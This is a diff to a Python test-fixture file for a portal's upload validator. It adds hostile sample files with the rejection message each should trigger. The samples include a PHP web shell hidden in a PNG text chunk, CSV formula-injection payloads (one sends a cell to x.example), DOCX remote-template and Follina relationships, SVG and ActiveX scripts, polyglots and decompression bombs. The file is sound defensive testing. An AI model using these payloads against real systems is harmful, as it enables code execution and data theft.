@@ -255,6 +255,36 @@ def terpotong(data):
     return data[: len(data) * 6 // 10]
 
 
+def rusak_di_tengah(data):
+    """The first third kept, the rest overwritten: a file damaged in transfer."""
+    sepertiga = len(data) // 3
+    return data[:sepertiga] + bytes(range(256)) * ((len(data) - sepertiga) // 256 + 1)
+
+
+def jpeg_berdimensi(lebar, tinggi):
+    """A small JPEG whose frame header (SOF0, or SOF2 when progressive) claims another size: a
+    bomb in a few kilobytes."""
+    data = bytearray(jpeg())
+    sof = min(i for i in (data.find(b"\xff\xc0"), data.find(b"\xff\xc2")) if i >= 0)
+    data[sof + 5 : sof + 9] = struct.pack(">HH", tinggi, lebar)
+    return bytes(data)
+
+
+def png_dengan_teks(kunci, teks):
+    return png_polos(10, 10, sebelum_idat=_chunk_png(b"tEXt", kunci + b"\0" + teks))
+
+
+def tepat_di_atas(batas, data):
+    """`data` padded with zeros to one byte over `batas`."""
+    return data + b"\0" * (batas + 1 - len(data))
+
+
+def gifar():
+    """GIF + Java archive (the GIFAR of applet days): an image to the browser, a JAR to Java."""
+    jar = _zip({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n", "A.class": "x"})
+    return gif_dengan_komentar(b"gambar") + jar
+
+
 SVG_SKRIP = (
     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
     b"<script>fetch('/admin/').then(r=>r.text()).then(alert)</script></svg>"
@@ -270,6 +300,10 @@ PE = (
     + b"\0" * 200
 )
 ZIP_KECIL = _zip({"baca.txt": "arsip tersembunyi"})
+JAVASCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');"
+PESAN_SVG = "Gambar SVG tidak diterima"
+BUKAN_GAMBAR = "bukan gambar yang dapat dibaca"
+BERISI_MARKUP = "berisi markup"
 
 KASUS_GAMBAR_SAH = [
     Kasus("tepian-mahakam.jpg", jpeg),
@@ -326,6 +360,68 @@ KASUS_GAMBAR_BERBAHAYA = {
     ),
     "nama_ekstensi_ganda_php": Kasus("foto.php.jpg", jpeg, "ekstensi berbahaya (.php)"),
     "nama_titik_dua_windows": Kasus("C:foto.jpg", jpeg, "titik dua"),
+    "html_menyamar_png": Kasus("foto.png", lambda: HTML, BERISI_MARKUP),
+    "html_menyamar_gif": Kasus("foto.gif", lambda: HTML, BERISI_MARKUP),
+    "html_menyamar_webp": Kasus("foto.webp", lambda: HTML, BERISI_MARKUP),
+    "html_menyamar_avif": Kasus("foto.avif", lambda: HTML, BERISI_MARKUP),
+    "html_berbom_utf8_menyamar_jpg": Kasus(
+        "foto.jpg", lambda: b"\xef\xbb\xbf" + HTML, BERISI_MARKUP
+    ),
+    "javascript_menyamar_jpg": Kasus("foto.jpg", lambda: JAVASCRIPT, BUKAN_GAMBAR),
+    "javascript_menyamar_png": Kasus("foto.png", lambda: JAVASCRIPT, BUKAN_GAMBAR),
+    "program_exe_menyamar_gif": Kasus("foto.gif", lambda: PE, BUKAN_GAMBAR),
+    "pdf_menyamar_jpg": Kasus("foto.jpg", pdf, BUKAN_GAMBAR),
+    "zip_menyamar_png": Kasus("foto.png", lambda: ZIP_KECIL, BUKAN_GAMBAR),
+    **{
+        f"svg_menyamar_{ekstensi}": Kasus(f"logo.{ekstensi}", lambda: SVG_SKRIP, PESAN_SVG)
+        for ekstensi in ("jpg", "jpeg", "gif", "webp", "avif")
+    },
+    "svgz_dengan_skrip": Kasus("logo.svgz", lambda: zlib.compress(SVG_SKRIP), PESAN_SVG),
+    "svg_tanpa_deklarasi_xml_menyamar_png": Kasus(
+        "logo.png", lambda: b"<svg onload=alert(1)>", PESAN_SVG
+    ),
+    "gifar_gif_dan_jar": Kasus("foto.gif", gifar, "poliglot"),
+    "jpeg_poliglot_zip": Kasus("foto.jpg", lambda: jpeg() + ZIP_KECIL, "poliglot"),
+    "webp_poliglot_zip": Kasus("foto.webp", lambda: webp() + ZIP_KECIL, "poliglot"),
+    "png_dengan_php_di_teks": Kasus(
+        "foto.png",
+        lambda: png_dengan_teks(b"Comment", b"<?php system($_GET['c']); ?>"),
+        "memuat kode HTML atau skrip",
+    ),
+    "png_dengan_iframe_di_teks": Kasus(
+        "foto.png",
+        lambda: png_dengan_teks(b"Comment", b'<iframe src="//x.example/">'),
+        "memuat kode HTML atau skrip",
+    ),
+    "gif_terpotong": Kasus(
+        "foto.gif", lambda: terpotong(gif_dengan_komentar(b"x")), "rusak atau terpotong"
+    ),
+    "avif_terpotong": Kasus("foto.avif", lambda: terpotong(avif()), "isinya rusak"),
+    "jpeg_rusak_di_tengah": Kasus(
+        "foto.jpg", lambda: rusak_di_tengah(jpeg()), "rusak atau terpotong"
+    ),
+    "png_rusak_di_tengah": Kasus(
+        "foto.png", lambda: rusak_di_tengah(png()), "rusak atau terpotong"
+    ),
+    "jpeg_bom_dimensi_palsu": Kasus(
+        "foto.jpg", lambda: jpeg_berdimensi(60_000, 60_000), "terlalu banyak piksel"
+    ),
+    "png_tepat_di_atas_40_megapiksel": Kasus(
+        "besar.png", lambda: png_polos(8000, 5001), "terlalu banyak piksel (40.008.000)"
+    ),
+    "jpeg_tepat_di_atas_10_mb": Kasus(
+        "besar.jpg", lambda: tepat_di_atas(10 * MB, jpeg()), "terlalu besar"
+    ),
+    "tiff_tidak_diterima": Kasus(
+        "peta.tiff", lambda: _simpan(_foto(), "TIFF"), "Format gambar ini tidak diterima"
+    ),
+    "ico_tidak_diterima": Kasus(
+        "ikon.ico", lambda: _simpan(_foto(), "ICO"), "Format gambar ini tidak diterima"
+    ),
+    "png_berekstensi_gif": Kasus("foto.gif", png, "tidak sesuai dengan ekstensinya"),
+    "nama_ekstensi_ganda_html": Kasus("foto.html.png", png, "ekstensi berbahaya (.html)"),
+    "nama_diawali_titik": Kasus(".htaccess.jpg", jpeg, "diawali titik"),
+    "nama_250_karakter": Kasus("a" * 246 + ".jpg", jpeg, "Nama berkas terlalu panjang (250"),
 }
 
 # -- hostile documents -------------------------------------------------------------------------
@@ -406,6 +502,61 @@ def xlsx_dengan_lembar_makro():
     return _zip(anggota)
 
 
+def _rels_dokumen(*relasi):
+    """word/_rels/document.xml.rels with (type, target, external) relationships."""
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(
+            f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument'
+            f'/2006/relationships/{jenis}" Target="{tujuan}"'
+            + (' TargetMode="External"' if luar else "")
+            + "/>"
+            for n, (jenis, tujuan, luar) in enumerate(relasi, start=10)
+        )
+        + "</Relationships>"
+    )
+
+
+def docx_dengan_relasi(*relasi):
+    return docx(**{"word/_rels/document.xml.rels": _rels_dokumen(*relasi)})
+
+
+def xlsx_dengan(**bagian):
+    with zipfile.ZipFile(io.BytesIO(xlsx())) as asli:
+        anggota = {n: asli.read(n) for n in asli.namelist()}
+    return _zip({**anggota, **bagian})
+
+
+TIPE_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+TIPE_PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
+TIPE_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+
+
+def ooxml(bagian_utama, tipe, *tambahan, **bagian):
+    """A minimal package whose main part `bagian_utama` has content type `tipe`."""
+    rels = _RELS.replace("word/document.xml", bagian_utama)
+    return _zip(
+        {
+            "[Content_Types].xml": _jenis_konten((f"/{bagian_utama}", tipe), *tambahan),
+            "_rels/.rels": rels,
+            bagian_utama: "<p:presentation/>",
+            **bagian,
+        }
+    )
+
+
+def odf(tipe, **bagian):
+    """An OpenDocument package of mimetype `tipe` (text content, enough for the checks)."""
+    return _zip(
+        {
+            "mimetype": tipe,
+            "META-INF/manifest.xml": _MANIFEST_ODT.replace(TIPE_ODT, tipe),
+            "content.xml": _isi_odt(),
+            **bagian,
+        }
+    )
+
+
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\xec\xa5\xc1\x00" + b"\0" * 1500
 TIPE_VBA = ("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
 BOM_XML = (
@@ -422,6 +573,10 @@ KASUS_DOKUMEN_SAH = [
     Kasus("laporan-kinerja.pdf", pdf),
     Kasus("laporan-dibatasi.pdf", pdf_dibatasi_tanpa_sandi_pembuka),
     Kasus("laporan-layanan.docx", docx),
+    Kasus(
+        "laporan-bertautan.docx",  # a link the reader clicks is fine
+        lambda: docx_dengan_relasi(("hyperlink", "https://kaltimprov.go.id/", True)),
+    ),
     Kasus("rekap-permohonan.xlsx", xlsx),
     Kasus("daftar-informasi.odt", odt),
     Kasus("rekap.csv", csv_utf8),
@@ -524,4 +679,152 @@ KASUS_DOKUMEN_BERBAHAYA = {
         "..%2F..%2Fportal%2Fsettings%2Fbase.pdf", pdf, "penelusuran folder"
     ),
     "nama_ekstensi_ganda_exe": Kasus("laporan.exe.pdf", pdf, "ekstensi berbahaya (.exe)"),
+    "javascript_menyamar_docx": Kasus(
+        "laporan.docx", lambda: JAVASCRIPT, "ternyata berkas jenis lain"
+    ),
+    "html_menyamar_xlsx": Kasus("rekap.xlsx", lambda: HTML, "ternyata HTML"),
+    "html_menyamar_odt": Kasus("daftar.odt", lambda: HTML, "ternyata HTML"),
+    "html_menyamar_csv": Kasus(
+        "data.csv", lambda: b"\n\n  <html><body>x</body></html>", BERISI_MARKUP
+    ),
+    "xml_menyamar_csv": Kasus("data.csv", lambda: b'<?xml version="1.0"?><a/>', BERISI_MARKUP),
+    "csv_berisi_iframe": Kasus(
+        "data.csv", lambda: b'nama;nilai\nx;<iframe src="//x.example/">\n', "(<iframe)"
+    ),
+    "csv_injeksi_rumus_dde": Kasus(
+        "data.csv",
+        lambda: b"nama;nilai\nx;=cmd|' /C calc'!A0\n",
+        "memuat rumus lembar kerja (=cmd|)",
+    ),
+    "csv_injeksi_rumus_hyperlink": Kasus(
+        "data.csv",
+        lambda: b'nama,tautan\nx,"=HYPERLINK(""http://x.example/?""&A1,""Klik"")"\n',
+        "memuat rumus lembar kerja (=HYPERLINK()",
+    ),
+    "csv_injeksi_rumus_at": Kasus(
+        "data.csv", lambda: b"nama;nilai\nx;@SUM(1+1)*cmd|' /C calc'!A0\n", "(@SUM()"
+    ),
+    "csv_utf16": Kasus(
+        "data.csv", lambda: "nama;nilai\nx;1\n".encode("utf-16"), "tanpa karakter kendali"
+    ),
+    "program_exe_menyamar_csv": Kasus("data.csv", lambda: PE, "tanpa karakter kendali"),
+    "program_exe_menyamar_mp4": Kasus("video.mp4", lambda: PE, "ternyata application/x-msdownload"),
+    "html_menyamar_webm": Kasus("video.webm", lambda: HTML, "ternyata HTML"),
+    "mp4_berekstensi_webm": Kasus("video.webm", mp4, "ternyata video/mp4"),
+    "mp4_poliglot_zip": Kasus("video.mp4", lambda: mp4() + ZIP_KECIL, "poliglot"),
+    "webm_poliglot_pdf": Kasus(
+        "video.webm", lambda: webm()[:200] + b"%PDF-1.4" + webm()[200:], "poliglot"
+    ),
+    "vtt_berisi_html": Kasus(
+        "teks.vtt", lambda: b"WEBVTT\n\n00:00.000 --> 00:01.000\n<iframe src=x>\n", "(<iframe)"
+    ),
+    "html_menyamar_vtt": Kasus("teks.vtt", lambda: HTML, "WEBVTT"),
+    "pdf_poliglot_html_di_awal": Kasus(
+        "laporan.pdf", lambda: pdf().replace(b"%PDF-", b"<html>%PDF-", 1), "ternyata HTML"
+    ),
+    "pdf_dengan_html_di_komentar": Kasus(
+        "laporan.pdf",
+        lambda: pdf().replace(b"\n", b"\n%<iframe src=//x.example/>\n", 1),
+        "memuat kode HTML atau skrip",
+    ),
+    "pdf_tepat_di_atas_50_mb": Kasus(
+        "besar.pdf", lambda: tepat_di_atas(50 * MB, pdf()), "terlalu besar"
+    ),
+    "xlsm_bermakro": Kasus(
+        "rekap.xlsm",
+        lambda: xlsx_dengan(**{"xl/vbaProject.bin": OLE}),
+        "bermakro (.xlsm)",
+    ),
+    "pptm_bermakro": Kasus(
+        "paparan.pptm", lambda: ooxml("ppt/presentation.xml", TIPE_PPTM), "bermakro (.pptm)"
+    ),
+    "dotm_bermakro": Kasus("templat.dotm", lambda: docx(TIPE_DOCM, TIPE_VBA), "bermakro (.dotm)"),
+    "xlsx_berisi_makro_vba": Kasus(
+        "rekap.xlsx", lambda: xlsx_dengan(**{"xl/vbaProject.bin": OLE}), "xl/vbaProject.bin"
+    ),
+    "xlsx_bertipe_xlsm": Kasus(
+        "rekap.xlsx",
+        lambda: ooxml("xl/workbook.xml", TIPE_XLSM),
+        TIPE_XLSM,
+    ),
+    "pptx_berisi_makro_vba": Kasus(
+        "paparan.pptx",
+        lambda: ooxml("ppt/presentation.xml", TIPE_PPTX, **{"ppt/vbaProject.bin": OLE}),
+        "ppt/vbaProject.bin",
+    ),
+    "pptx_berisi_activex": Kasus(
+        "paparan.pptx",
+        lambda: ooxml("ppt/presentation.xml", TIPE_PPTX, **{"ppt/activeX/activeX1.xml": "<a/>"}),
+        "ppt/activeX/",
+    ),
+    "ppt_lama": Kasus("paparan.ppt", lambda: OLE, "Format Office lama (.ppt)"),
+    "xlsx_sebenarnya_ole_terenkripsi": Kasus("rekap.xlsx", lambda: OLE, "(OLE)"),
+    "pdf_sebenarnya_ole": Kasus("laporan.pdf", lambda: OLE, "(OLE)"),
+    **{
+        f"docx_{nama}_jarak_jauh": Kasus(
+            "laporan.docx",
+            lambda jenis=jenis, tujuan=tujuan: docx_dengan_relasi((jenis, tujuan, True)),
+            f"{jenis} dari luar",
+        )
+        # Parts Office fetches when the document opens: remote-template injection, "Follina"
+        # (an OLE object through mhtml:), a frame, a tracking image.
+        for nama, jenis, tujuan in [
+            ("templat", "attachedTemplate", "http://x.example/t.dotm"),
+            ("objek_ole_follina", "oleObject", "mhtml:http://x.example/!x-usc:y"),
+            ("bingkai", "frame", "http://x.example/f.docx"),
+            ("gambar_pelacak", "image", "http://x.example/pelacak.png"),
+        ]
+    },
+    "docx_objek_ole_tertanam": Kasus(
+        "laporan.docx",
+        lambda: docx(**{"word/embeddings/oleObject1.bin": OLE}),
+        "objek OLE tertanam (word/embeddings/oleObject1.bin)",
+    ),
+    "xlsx_objek_ole_tertanam": Kasus(
+        "rekap.xlsx",
+        lambda: xlsx_dengan(**{"xl/embeddings/oleObject1.bin": OLE}),
+        "objek OLE tertanam",
+    ),
+    "docx_tanpa_indeks_tipe": Kasus(
+        "laporan.docx", lambda: _zip({"word/document.xml": _DOKUMEN_WORD}), "ternyata arsip ZIP"
+    ),
+    "docx_poliglot_html_di_depan": Kasus(
+        "laporan.docx", lambda: _zip({"a.txt": "x"}, awal=HTML), "ternyata HTML"
+    ),
+    "docx_terpotong": Kasus("laporan.docx", lambda: terpotong(docx()), "rusak"),
+    "xlsx_bom_dekompresi": Kasus(
+        "rekap.xlsx",
+        lambda: xlsx_dengan(**{"xl/media/kosong.bin": b"\0" * 100 * MB}),
+        "bom dekompresi",
+    ),
+    "ods_dengan_makro_basic": Kasus(
+        "rekap.ods",
+        lambda: odf(arsip_mimetype("ods"), **{"Basic/Standard/Module1.xml": "<script:module/>"}),
+        "memuat makro",
+    ),
+    "odp_dengan_skrip_python": Kasus(
+        "paparan.odp",
+        lambda: odf(arsip_mimetype("odp"), **{"Scripts/python/a.py": "import os"}),
+        "Scripts/python/a.py",
+    ),
+    "odt_dengan_makro_di_gaya": Kasus(
+        "daftar.odt",
+        lambda: odt(**{"styles.xml": _isi_odt(PERISTIWA_MAKRO)}),
+        "styles.xml",
+    ),
+    "odt_berekstensi_docx": Kasus("daftar.docx", odt, "ternyata arsip ZIP"),
+    "nama_ekstensi_ganda_php": Kasus("laporan.php.pdf", pdf, "ekstensi berbahaya (.php)"),
+    "nama_ekstensi_ganda_js": Kasus("laporan.js.csv", csv_utf8, "ekstensi berbahaya (.js)"),
+    "nama_diawali_titik": Kasus(".laporan.pdf", pdf, "diawali titik"),
+    "nama_aliran_data_ntfs": Kasus("laporan.pdf:zone.identifier", pdf, "titik dua"),
+    "nama_250_karakter": Kasus("l" * 246 + ".pdf", pdf, "Nama berkas terlalu panjang (250"),
+    "nama_tanpa_ekstensi": Kasus("laporan", pdf, "Format berkas"),
+    "program_html": Kasus("halaman.html", lambda: HTML, "Format berkas .html tidak diterima"),
+    "arsip_zip": Kasus("lampiran.zip", lambda: ZIP_KECIL, "Format berkas .zip tidak diterima"),
 }
+
+
+def arsip_mimetype(ekstensi):
+    from portal.unggahan.arsip import MIMETYPE_ODF
+
+    return MIMETYPE_ODF[ekstensi]
